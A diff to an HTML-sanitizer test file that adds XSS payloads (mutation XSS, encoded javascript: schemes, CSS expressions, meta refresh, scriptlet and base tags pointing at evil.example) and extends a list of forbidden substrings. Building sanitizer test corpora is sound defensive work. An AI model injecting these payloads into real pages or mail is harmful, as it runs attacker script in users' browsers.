@@ -106,6 +106,38 @@ XSS_CORPUS: list[str] = [
     "<plaintext><img src=x onerror=alert(1)>",
     '<div><p><b><i>unclosed <a href="javascript:alert(1)">x',
     "<table><td><img src=x onerror=alert(1)></table>",
+    # Added by the mail-content reliability scenario (tests/test_reliability_mail_content.py): more
+    # of each classic family.
+    # mutation XSS: markup that re-parses differently after a serialise round trip
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    '<svg></p><style><a title="</style><img src=1 onerror=alert(1)>">',
+    "<noscript><style></noscript><img src=x onerror=alert(1)>",
+    "<math><style><img src=x onerror=alert(1)></style></math>",
+    '<svg><set attributeName="href" to="javascript:alert(1)"/><a><text>x</text></a></svg>',
+    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
+    # srcdoc, srcset and other URL-bearing attributes
+    '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
+    '<img srcset="javascript:alert(1) 1x">',
+    '<input type="image" src="javascript:alert(1)">',
+    '<isindex action="javascript:alert(1)" type=image>',
+    '<body background="javascript:alert(1)">x</body>',
+    "<frameset onload=alert(1)><frame src=x></frameset>",
+    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
+    # entity-encoded and split schemes
+    '<a href="javascript&#58alert(1)">x</a>',
+    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
+    '<a href="j&#x0D;avascript:alert(1)">x</a>',
+    '<a href="\x01javascript:alert(1)">x</a>',
+    '<a href="data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-">x</a>',
+    # CSS
+    '<div style="background:url(&#x6A;avascript:alert(1))">x</div>',
+    '<div style="color:red;width:expr/**/ession(alert(1))">x</div>',
+    '<td style="behavior:url(#default#time2)">x</td>',
+    # forms, meta refresh and base
+    '<form id="f"></form><button form="f" formaction="javascript:alert(1)">x</button>',
+    '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
+    '<base target="_top" href="https://evil.example/">',
+    '<link rel="import" href="data:text/html,x">',
 ]
 
 # Case-insensitive substrings that must never be in the output.
@@ -148,6 +180,13 @@ FORBIDDEN = (
     "<template",
     "<!--",
     "position",
+    "srcset",
+    "<isindex",
+    "<frame",
+    "<use",
+    "<set",
+    "scriptlet",
+    "background=",
 )
 
 
